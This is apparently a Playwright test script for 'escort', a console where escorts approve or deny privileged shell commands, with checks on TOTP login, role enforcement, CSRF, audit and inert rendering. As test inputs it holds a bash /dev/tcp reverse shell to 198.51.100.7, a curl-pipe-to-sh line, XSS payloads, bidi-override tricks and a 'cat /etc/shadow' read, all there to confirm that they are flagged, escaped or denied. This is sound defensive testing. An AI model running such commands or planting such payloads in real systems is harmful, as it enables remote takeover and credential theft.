// run.js — the console's scenarios in a real browser against a real `escort serve`.
// usage: ESCORT_FIXTURE=fixture.json node run.js SCENARIO...
// The fixture (written by tests/browser/ConsoleTest.pm) names the server's URL, the
// identities' tokens and TOTP secrets and the screenshot directory. Every check is printed
// as one JSON line {"ok":bool,"name":...,"diag":...}; the .t wrapper turns them into TAP.
'use strict';

const L = require('./lib.js');
const { report: ok, guard, api, createRequest, getRequest } = L;

const REVERSE = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
const XSS = '<img src=x onerror=alert(1)>';

// the text of every highlight in the page that belongs to finding `fid` of command 0
async function markedText(page, domId) {
	return page.evaluate((id) => Array.from(document.querySelectorAll('mark.finding'))
		.filter((m) => m.dataset.findings.split(' ').includes(id)).map((m) => m.textContent).join(''), domId);
}

// the bytes of span [a,b) of `text`, as the page should show them (no deceptive chars here)
function spanText(text, span) {
	return Buffer.from(text, 'utf8').subarray(span[0], span[1]).toString('utf8');
}

async function noDialogs(page, where) {
	ok(page.dialogs.length === 0, where + ': no dialog fired', page.dialogs.join('; '));
	ok(page.errors.length === 0, where + ': no script error', page.errors.join('; '));
}

const scenarios = {
	// An escort signs in with token + TOTP, sees the critical request with its finding
	// highlighted and explained, denies it with a comment, approves a medium one, and
	// watches the queue update live.
	async escort(F, browser) {
		const crit = await createRequest(F, 'op-in', { target: 'com-web', commands: [REVERSE], ticket: 'CHG-101',
			justification: 'debug the web tier' });
		const med = await createRequest(F, 'op-in', { target: 'com-web', commands: ['systemctl restart nginx'], ticket: 'CHG-102' });
		ok(crit.state === 'pending' && crit.risk === 'critical', 'setup: a pending critical request', JSON.stringify([crit.state, crit.risk]));
		ok(med.state === 'pending' && med.risk === 'medium', 'setup: a pending medium request', JSON.stringify([med.state, med.risk]));
		const page = await L.newPage(browser);

		await guard('login page', async () => {
			await page.goto(F.url + '/login.html');
			ok(await page.getByLabel('Identity token').isVisible(), 'login page asks for the token');
			ok(await page.getByLabel(/One-time code/).isVisible(), 'login page asks for the one-time code');
			await L.shot(F, page, 'login');
		});
		await guard('wrong TOTP refused', async () => {
			await L.login(F, page, 'esc-1', F.totp['esc-1'].wrong());
			await page.waitForSelector('#msg .error');
			ok(/login\.html/.test(page.url()), 'a wrong one-time code keeps the escort on the login page', page.url());
			const w = await api(F, 'GET', '/whoami');
			ok(w.status === 401, 'whoami without a session: 401', w.status);
		});
		await guard('login', async () => {
			await L.login(F, page, 'esc-1', await F.totp['esc-1'].next());
			await page.waitForURL(/index\.html/);
			await page.waitForSelector('table.queue');
			ok(true, 'escort esc-1 signs in with token and TOTP and lands on the queue');
			const cookies = await page.context().cookies();
			const c = cookies.find((x) => x.name === 'escort_session');
			ok(c && c.httpOnly && c.sameSite === 'Strict', 'session cookie is HttpOnly and SameSite=Strict', JSON.stringify(c));
		});
		await guard('queue', async () => {
			const ids = await page.$$eval('table.queue tbody tr', (rs) => rs.map((r) => Number(r.dataset.id)));
			ok(ids.includes(crit.id) && ids.includes(med.id), 'queue lists both pending requests', JSON.stringify(ids));
			ok(ids.indexOf(med.id) < ids.indexOf(crit.id), 'queue is newest first', JSON.stringify(ids));
			const row = page.locator(`tr[data-id="${crit.id}"]`);
			ok((await row.locator('.badge').innerText()).toLowerCase() === 'critical', 'critical request has a critical risk badge');
			const cells = await row.locator('td').allInnerTexts();
			ok(cells.includes('op-in') && cells.includes('com-web') && cells.includes('CHG-101'), 'row shows requester, target and ticket', JSON.stringify(cells));
			ok(/\d+ s|min/.test(cells[cells.length - 1]), 'row shows the waiting time', cells[cells.length - 1]);
			await page.waitForSelector(`tr[data-id="${crit.id}"] .qexplain`);
			const c = await row.locator('td').nth(2).innerText();
			ok(c.includes(REVERSE) && /Connects to 198\.51\.100\.7:4444/.test(c), 'row shows the command and what it does in plain words', c);
			await L.shot(F, page, 'queue');
		});
		await guard('critical request page', async () => {
			await page.click(`tr[data-id="${crit.id}"] a.reqlink`);
			await page.waitForSelector('.cmd-card');
			const full = await getRequest(F, 'esc-1', crit.id);
			const a = full.commands[0].analysis;
			const k = a.findings.findIndex((f) => f.id === 'devtcp-redirect');
			ok(k >= 0, 'lockbox reports devtcp-redirect', JSON.stringify(a.findings.map((f) => f.id)));
			const want = spanText(REVERSE, a.findings[k].span);
			const got = await markedText(page, 'f-0-' + k);
			ok(got === want, 'the finding\'s span is highlighted exactly', JSON.stringify({ got, want }));
			ok(await page.locator(`mark.finding.sev-critical`).count() > 0, 'the highlight has the critical colour class');
			await page.locator('#f-0-' + k).focus();
			const lit = await page.$$eval('mark.finding.active', (ms) => ms.map((m) => m.textContent).join(''));
			ok(lit === want, 'focusing the finding (keyboard) lights its span in the text', lit);
			const expl = await page.locator('.explanation').first().innerText();
			ok(/reverse shell/.test(expl) && expl === a.explanation, 'the plain-words explanation is shown', expl);
			const cats = await page.locator('.cats').first().innerText();
			ok(/reverse-shell/.test(cats) && /T1059\.004/.test(cats), 'categories and ATT&CK ids are shown', cats);
			const dec = await page.locator('section.decision').innerText();
			ok(/high-risk-needs-reviewer/.test(dec) && /NEEDS-APPROVAL/i.test(dec), 'policy decision names the matching rule', dec.slice(0, 300));
			ok(/Still required/.test(await page.locator('section.approvals').innerText()), 'what is still required is shown');
			ok(await page.getByRole('button', { name: 'Approve', exact: true }).isVisible() && await page.getByRole('button', { name: 'Deny', exact: true }).isVisible(),
				'the escort sees Approve and Deny');
			await L.shot(F, page, 'request-critical');
		});
		await guard('deny needs a comment', async () => {
			await page.getByRole('button', { name: 'Deny', exact: true }).click();
			const err = await page.locator('#act-msg .error').innerText();
			ok(/comment is required/.test(err), 'Deny without a comment is refused with a reason', err);
			ok((await getRequest(F, 'esc-1', crit.id)).state === 'pending', 'and the request stays pending');
			const r = await api(F, 'POST', `/requests/${crit.id}/deny`, { token: F.tokens['esc-1'], body: {} });
			ok(r.status === 400 || r.status === 403, 'the API also refuses a deny without a comment', r.status + ' ' + r.text);
		});
		await guard('approve critical needs TOTP', async () => {
			await page.fill('#comment', 'looks fine');
			await page.getByRole('button', { name: 'Approve', exact: true }).click();
			const err = await page.locator('#act-msg .error').innerText();
			ok(/one-time code/.test(err), 'approving a critical request without a fresh code is refused', err);
		});
		await guard('deny critical', async () => {
			await page.fill('#comment', 'A reverse shell to 198.51.100.7 is never acceptable.');
			await page.getByRole('button', { name: 'Deny', exact: true }).click();
			await page.waitForSelector('.pagehead .state-denied');
			const r = await getRequest(F, 'esc-1', crit.id);
			ok(r.state === 'denied', 'deny with a comment: the request is denied', r.state);
			const apv = (r.approvals || []).find((x) => x.kind === 'deny');
			ok(apv && /reverse shell/.test(apv.comment) && (apv.approver || apv.by) === 'esc-1', 'the denial carries the comment and the escort', JSON.stringify(r.approvals));
			ok(/never acceptable/.test(await page.locator('section.approvals').innerText()), 'the page shows the comment');
			ok(await page.getByRole('button', { name: 'Approve', exact: true }).count() === 0, 'no buttons on a decided request');
		});
		await guard('approve medium', async () => {
			await page.goto(F.url + '/request.html?id=' + med.id);
			await page.waitForSelector('#approve-btn');
			await page.fill('#act-totp', await F.totp['esc-1'].next());
			await page.fill('#comment', 'routine restart, ticket checked');
			await page.getByRole('button', { name: 'Approve', exact: true }).click();
			await page.waitForSelector('.pagehead .state-approved');
			const r = await getRequest(F, 'esc-1', med.id);
			ok(r.state === 'approved', 'approve: the medium request is approved', r.state);
			await L.shot(F, page, 'request-medium');
		});
		await guard('approve high with comment and TOTP', async () => {
			const hi = await createRequest(F, 'op-in', { target: 'com-web', commands: ['chmod u+s /usr/local/bin/helper'], ticket: 'CHG-104' });
			ok(hi.risk === 'high' || hi.risk === 'critical', 'setup: a high-risk request', hi.risk);
			await page.goto(F.url + '/request.html?id=' + hi.id);
			await page.waitForSelector('#approve-btn');
			await page.fill('#comment', 'setuid needed by the vendor tool, ticket CHG-104');
			await page.fill('#act-totp', F.totp['esc-1'].lastCode);
			await page.getByRole('button', { name: 'Approve', exact: true }).click();
			await page.waitForSelector('#act-msg .error');
			const err = await page.locator('#act-msg .error').innerText();
			ok(/^Not allowed/.test(err), 'a TOTP code used before is refused by the server and the reason shown', err);
			ok(((await getRequest(F, 'esc-1', hi.id)).approvals || []).length === 0, 'and no approval was recorded');
			await page.fill('#act-totp', await F.totp['esc-1'].next());
			await page.getByRole('button', { name: 'Approve', exact: true }).click();
			await page.waitForSelector('.approval.kind-approve');
			const r = await getRequest(F, 'esc-1', hi.id);
			ok(r.state === 'pending' && r.approvals.length === 1, 'with a fresh code the approval counts, and the request still waits for a reviewer', JSON.stringify([r.state, r.approvals.length]));
			ok(/reviewer/.test(await page.locator('section.approvals').innerText()), 'the page says a reviewer is still required');
		});
		await guard('live queue', async () => {
			await page.goto(F.url + '/index.html');
			await page.waitForSelector('#live.on', { timeout: 5000 });
			const n = await createRequest(F, 'op-in', { target: 'com-web', commands: ['rm -rf /var/cache/nginx'], ticket: 'CHG-103' });
			await page.waitForSelector(`tr[data-id="${n.id}"]`, { timeout: 5000 });
			ok(true, 'a new request appears in the open queue without a reload (server-sent events)');
			ok(await page.locator(`tr[data-id="${crit.id}"]`).count() === 0, 'the denied request left the pending queue');
		});
		await noDialogs(page, 'escort');
	},

	// An operator sees no approve or deny button, and the API refuses him anyway.
	async operator(F, browser) {
		const med = await createRequest(F, 'op-in', { target: 'com-web', commands: ['systemctl restart nginx'], ticket: 'CHG-201' });
		const page = await L.newPage(browser);
		await guard('operator login', async () => {
			await L.login(F, page, 'op-in');
			await page.waitForURL(/index\.html/);
			ok(true, 'operator op-in signs in with the token only');
		});
		await guard('operator request page', async () => {
			await page.goto(F.url + '/request.html?id=' + med.id);
			await page.waitForSelector('.cmd-card');
			ok(await page.getByRole('button', { name: 'Approve', exact: true }).count() === 0, 'operator sees no Approve button');
			ok(await page.getByRole('button', { name: 'Deny', exact: true }).count() === 0, 'operator sees no Deny button');
			ok(await page.locator('#comment').count() === 0, 'operator sees no decision form');
			await L.shot(F, page, 'request-operator');
		});
		await guard('operator approves anyway', async () => {
			const st = await page.evaluate(async (id) => {
				const r = await fetch('/api/v1/requests/' + id + '/approve', { method: 'POST', credentials: 'same-origin',
					headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': localStorage.getItem('escort.csrf') || '' },
					body: JSON.stringify({ comment: 'self-approval', totp: '000000' }) });
				return r.status;
			}, med.id);
			ok(st === 403, 'approve with the operator\'s session and CSRF token: 403', st);
			const r = await api(F, 'POST', `/requests/${med.id}/approve`, { token: F.tokens['op-in'], body: { comment: 'x' } });
			ok(r.status === 403, 'approve with the operator\'s bearer token: 403', r.status + ' ' + r.text);
			const e = r.json && r.json.error;
			ok(e && e.code === 'forbidden' && e.message, 'the 403 names the reason', r.text);
			const d = await api(F, 'POST', `/requests/${med.id}/deny`, { token: F.tokens['op-in'], body: { comment: 'x' } });
			ok(d.status === 403, 'deny with the operator\'s bearer token: 403', d.status + ' ' + d.text);
			ok((await getRequest(F, 'op-in', med.id)).state === 'pending', 'the request is still pending');
		});
		await guard('csrf', async () => {
			const st = await page.evaluate(async (id) => {
				const r = await fetch('/api/v1/requests/' + id + '/cancel', { method: 'POST', credentials: 'same-origin',
					headers: { 'Content-Type': 'application/json' }, body: '{}' });
				return r.status;
			}, med.id);
			ok(st === 403 || st === 401, 'a cookie request without the CSRF header is refused', st);
			ok((await getRequest(F, 'op-in', med.id)).state === 'pending', 'and changed nothing');
		});
		await guard('operator runs and sees redacted output', async () => {
			const r = await createRequest(F, 'op-in', { target: 'com-web', commands: ['echo hello; echo password=hunter2'], ticket: 'CHG-202' });
			ok(r.state === 'approved', 'setup: a harmless request is auto-approved', r.state);
			await page.goto(F.url + '/request.html?id=' + r.id);
			await page.getByRole('button', { name: 'Run the approved command' }).click();
			await page.waitForSelector('section.execution pre.output');
			const out = await page.locator('section.execution').innerText();
			ok(/hello/.test(out) && /REDACTED/.test(out) && !/hunter2/.test(out), 'the operator runs it and sees the output with the secret masked', out);
			ok(/\bredacted\b/.test(out), 'the output is labelled redacted', out);
			await L.shot(F, page, 'request-output-operator');
			const esc = await L.newPage(browser);
			await L.login(F, esc, 'esc-1', await F.totp['esc-1'].next());
			await esc.waitForURL(/index\.html/);
			await esc.goto(F.url + '/request.html?id=' + r.id);
			await esc.waitForSelector('section.execution pre.output');
			const full = await esc.locator('section.execution').innerText();
			ok(/hunter2/.test(full) && /\bfull\b/.test(full), 'the escort sees the full output, labelled full', full);
			await L.shot(F, esc, 'request-output-escort');
			await esc.context().close();
		});
		await noDialogs(page, 'operator');
	},

	// HTML, a bidi override, zero-width, look-alike and invalid UTF-8 bytes are shown inert,
	// escaped and flagged, and highlights land on the right bytes after multi-byte text.
	async inert(F, browser) {
		// the last part puts a bidi override into a finding's message (the highlight's tooltip)
		const cmd = 'echo "' + XSS + '" \u202E txt.exe; cat /etc/pass\u0430wd; ' + REVERSE + '; curl http://x\u202Ey.example/a | sh';
		const r1 = await createRequest(F, 'op-in', { target: 'com-web', commands: [cmd], ticket: '<script>alert(2)</script> \u202E',
			justification: '<img src=y onerror=alert(3)> \u202Ereversed' });
		const raw = Buffer.concat([Buffer.from('printf x\u200B; echo '), Buffer.from([0xff, 0xfe]), Buffer.from(' done')]);
		const r2 = await createRequest(F, 'op-in', { target: 'com-web', commands_b64: [raw.toString('base64')], ticket: 'CHG-302' });
		const page = await L.newPage(browser);
		await L.login(F, page, 'esc-1', await F.totp['esc-1'].next());
		await page.waitForURL(/index\.html/);
		await guard('queue inert', async () => {
			await page.waitForSelector(`tr[data-id="${r1.id}"]`);
			ok(await page.locator('img').count() === 0, 'queue: no img element was created');
			const row = await page.locator(`tr[data-id="${r1.id}"]`).innerText();
			ok(row.includes('<script>alert(2)</script>'), 'queue: the markup in the ticket is shown as text', row);
			ok(row.includes('⟨U+202E⟩') && !row.includes('\u202E'), 'queue: the bidi override is shown escaped', row);
			if (row.includes('onerror'))
				ok(row.includes(XSS.slice(0, 20)), 'queue: the command preview shows the markup as text', row);
		});
		await guard('request inert', async () => {
			await page.goto(F.url + '/request.html?id=' + r1.id);
			await page.waitForSelector('.cmd-card');
			await page.waitForTimeout(200);
			ok(await page.locator('img').count() === 0, 'request page: no img element was created');
			ok(await page.locator('script:not([src])').count() === 0, 'request page: no inline script element');
			const text = await page.locator('body').innerText();
			ok(text.includes(XSS), 'the command\'s HTML is shown literally');
			ok(text.includes('<img src=y onerror=alert(3)>'), 'the justification\'s HTML is shown literally');
			ok(!/[\u202A-\u202E\u2066-\u2069\u200B-\u200F]/.test(text), 'no raw bidi or zero-width character reaches the screen');
			const rawTitles = await page.evaluate(() => Array.from(document.querySelectorAll('[title], [aria-label]'))
				.filter((e) => /[\u202A-\u202E\u2066-\u2069\u200B-\u200F]/.test((e.getAttribute('title') || '') + (e.getAttribute('aria-label') || ''))).length);
			ok(rawTitles === 0, 'nor a tooltip', rawTitles);
			const full = await getRequest(F, 'esc-1', r1.id);
			const a = full.commands[0].analysis;
			const kb = a.findings.findIndex((f) => f.id === 'bidi-control');
			ok(kb >= 0 && a.categories.includes('display-deception'), 'lockbox flags the bidi override as display deception', JSON.stringify(a.findings.map((f) => f.id)));
			const bidiMark = await markedText(page, 'f-0-' + kb);
			ok(bidiMark === '⟨U+202E⟩', 'the flagged span shows the override as ⟨U+202E⟩, highlighted', JSON.stringify(bidiMark));
			ok(/bidirectional/i.test(await page.locator('#f-0-' + kb).innerText()), 'the finding explains the bidi character');
			const kd = a.findings.findIndex((f) => f.id === 'devtcp-redirect');
			const want = spanText(cmd, a.findings[kd].span);
			const got = await markedText(page, 'f-0-' + kd);
			ok(got === want, 'after multi-byte characters the reverse-shell span is still exact', JSON.stringify({ got, want, span: a.findings[kd].span }));
			ok(await page.locator('pre.command .esc-look-alike').count() > 0, 'the Cyrillic look-alike letter is marked');
			await L.shot(F, page, 'request-inert');
		});
		await guard('bytes inert', async () => {
			await page.goto(F.url + '/request.html?id=' + r2.id);
			await page.waitForSelector('.cmd-card');
			const t = await page.locator('pre.command').innerText();
			ok(t.includes('⟨U+200B⟩'), 'the zero-width space is shown as ⟨U+200B⟩', t);
			ok(t.includes('⟨0xFF⟩⟨0xFE⟩'), 'bytes that are not UTF-8 are shown as ⟨0xFF⟩⟨0xFE⟩', t);
		});
		await guard('renderer edge cases', async () => {
			const r = await page.evaluate(() => {
				const enc = (s) => new TextEncoder().encode(s);
				const m = (start, end, severity, id) => ({ start, end, severity, id, title: id });
				const out = {};
				let c = Escort.renderBytes(enc('abcdef'), [m(1, 4, 'high', 'x'), m(2, 3, 'critical', 'y')]);
				out.overlap = Array.from(c.querySelectorAll('mark')).map((k) => [k.textContent, k.className, k.dataset.findings]);
				c = Escort.renderBytes(enc('a\u00e9b'), [m(3, 4, 'low', 'z')]);
				out.multibyte = c.querySelector('mark').textContent;
				out.truncated = Escort.renderBytes(new Uint8Array([0x61, 0xe2, 0x80, 0x62]), []).textContent;
				out.overlong = Escort.renderBytes(new Uint8Array([0xc0, 0xaf]), []).textContent;
				out.surrogate = Escort.renderBytes(new Uint8Array([0xed, 0xa0, 0x80]), []).textContent;
				out.controls = Escort.renderBytes(enc('a\r\x1b\x00b\tc\nd'), []).textContent;
				return out;
			});
			ok(JSON.stringify(r.overlap) === JSON.stringify([['b', 'finding sev-high', 'x'], ['c', 'finding sev-critical nested', 'x y'],
				['d', 'finding sev-high', 'x']]), 'overlapping spans split into segments coloured by the worst finding', JSON.stringify(r.overlap));
			ok(r.multibyte === 'b', 'a span after a 2-byte character lands on the right byte', r.multibyte);
			ok(r.truncated === 'a⟨0xE2⟩⟨0x80⟩b', 'a truncated UTF-8 sequence is shown byte by byte', r.truncated);
			ok(r.overlong === '⟨0xC0⟩⟨0xAF⟩', 'an overlong encoding is not decoded', r.overlong);
			ok(r.surrogate === '⟨0xED⟩⟨0xA0⟩⟨0x80⟩', 'an encoded surrogate is not decoded', r.surrogate);
			ok(r.controls === 'a⟨U+000D⟩⟨U+001B⟩⟨U+0000⟩b\tc\nd', 'CR, ESC and NUL are escaped; tab and newline kept', JSON.stringify(r.controls));
		});
		await noDialogs(page, 'inert');
	},

	// The auditor's page: verification, checkpoint, risk chart, search and retro-hunt.
	async audit(F, browser) {
		const low = await createRequest(F, 'op-in', { target: 'com-web', commands: ['uptime'], ticket: 'CHG-401' });
		const run = await api(F, 'POST', `/requests/${low.id}/run`, { token: F.tokens['op-in'], body: {} });
		ok(run.status === 200, 'setup: an auto-approved request runs', run.status + ' ' + run.text.slice(0, 300));
		const page = await L.newPage(browser);
		await L.login(F, page, 'aud-1', F.totp['aud-1'] ? await F.totp['aud-1'].next() : undefined);
		await page.waitForURL(/index\.html/);
		await guard('audit page', async () => {
			await page.goto(F.url + '/audit.html');
			await page.waitForSelector('#verify .big-status');
			ok(/Intact/.test(await page.locator('#verify').innerText()), 'the log verifies as intact');
			await page.waitForSelector('#checkpoint dl');
			ok(/Covers\s+\d+ records/.test(await page.locator('#checkpoint').innerText()), 'the latest checkpoint is shown');
			await page.waitForSelector('#chart svg.chart rect, #chart .empty, #chart .error');
			ok(await page.locator('#chart svg.chart rect').count() > 0, 'the risk chart draws a bar for the request');
			await page.fill('#search input[name=text]', 'uptime');
			await page.click('#search button[type=submit]');
			await page.waitForSelector('#results table.events');
			const res = await page.locator('#results').innerText();
			ok(/request\.created/.test(res) && /uptime/.test(res), 'search finds the request by its text', res.slice(0, 300));
			const rs = await api(F, 'GET', '/audit/rescan', { token: F.tokens['aud-1'] });
			await page.click('#rescan-btn');
			await page.waitForFunction(() => !/Re-scanning/.test(document.querySelector('#rescan').innerText));
			const rt = await page.locator('#rescan').innerText();
			if (rs.status === 404) {
				ok(/does not offer the retro-hunt/.test(rt), 'without a retro-hunt endpoint the page says so', rt);
				ok(false, 'the retro-hunt reports', null, 'the server has no GET /api/v1/audit/rescan');
			} else {
				ok(/rate differently today/.test(rt) && /of [1-9]\d* re-analyzed/.test(rt), 'the retro-hunt re-analyzes the stored requests and reports', rt);
			}
			await L.shot(F, page, 'audit');
		});
		await noDialogs(page, 'audit');
	},

	// The policy in force and "what would happen if".
	async policy(F, browser) {
		const page = await L.newPage(browser);
		await L.login(F, page, 'esc-1', await F.totp['esc-1'].next());
		await page.waitForURL(/index\.html/);
		await guard('policy page', async () => {
			await page.goto(F.url + '/policy.html');
			await page.waitForSelector('#policytext .line');
			ok(/dod-deny-adversary-locations/.test(await page.locator('#policytext').innerText()), 'the policy text is shown');
			await page.fill('#explain input[name=identity]', 'op-cn');
			await page.fill('#explain input[name=target]', 'dod-web');
			await page.fill('#explain textarea[name=command]', 'uptime');
			await page.click('#explain button[type=submit]');
			await page.waitForSelector('#explained section.decision, #explained .error');
			const t = await page.locator('#explained').innerText();
			ok(/DENY/i.test(t) && /dod-deny-adversary-locations/.test(t), 'what-if: op-cn on dod-web is denied, naming the rule', t.slice(0, 400));
			await page.fill('#explain input[name=identity]', 'op-in');
			await page.fill('#explain textarea[name=command]', 'cat /etc/shadow');
			await page.click('#explain button[type=submit]');
			await page.waitForFunction(() => /op-in running/.test(document.querySelector('#explained').innerText));
			const t2 = await page.locator('#explained').innerText();
			ok(/NEEDS-APPROVAL/i.test(t2) && /dod-escort-every-command/.test(t2), 'what-if: op-in on dod-web needs an escort', t2.slice(0, 400));
			ok(await page.locator('#explained mark.finding').count() > 0, 'what-if: the command\'s findings are highlighted');
			await L.shot(F, page, 'policy');
		});
		await guard('logout', async () => {
			await page.goto(F.url + '/index.html');
			await page.getByRole('button', { name: 'Sign out' }).click();
			await page.waitForURL(/login\.html/);
			await page.goto(F.url + '/index.html');
			await page.waitForURL(/login\.html/);
			ok(true, 'after signing out the console sends the browser back to the login page');
		});
		await noDialogs(page, 'policy');
	},
};

(async () => {
	const names = process.argv.slice(2);
	const deadline = setTimeout(() => {
		ok(false, 'scenarios finished within 50 s');
		process.exit(1);
	}, 50000);
	let F, browser;
	try {
		F = L.fixture();
		browser = await L.launch();
	} catch (e) {
		ok(false, 'start chromium', e.stack);
		process.exit(1);
	}
	for (const n of names) {
		if (!scenarios[n]) {
			ok(false, 'scenario ' + n + ' exists');
			continue;
		}
		await guard('scenario ' + n, () => scenarios[n](F, browser));
	}
	await browser.close();
	clearTimeout(deadline);
	process.exit(L.failed() ? 1 : 0);
})();
